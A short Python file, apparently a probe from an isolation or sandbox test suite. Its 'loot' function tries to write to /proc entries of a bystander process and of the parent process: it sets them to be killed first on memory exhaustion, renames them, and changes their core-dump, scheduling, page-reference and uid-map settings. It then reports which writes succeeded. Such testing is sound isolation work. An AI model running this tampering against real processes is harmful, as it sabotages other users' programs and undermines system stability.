"""Change what the kernel lets one write about other processes: who is killed first when memory ends, names, maps.

base: right
holds from: UID
"""

import os


def loot():
    done = []
    for pid in {BYSTANDER, os.getppid()} - {0}:
        for name, text in (
            ("oom_score_adj", "1000"),
            ("oom_adj", "15"),
            ("comm", MARK),
            ("timerslack_ns", "1000000"),
            ("coredump_filter", "0"),
            ("autogroup", "19"),
            ("clear_refs", "1"),
            ("uid_map", "0 0 1"),
        ):
            try:
                with open(f"/proc/{pid}/{name}", "w") as file:
                    file.write(text)
                done.append(f"done:{name} of {pid}")
            except OSError:
                pass
    return done
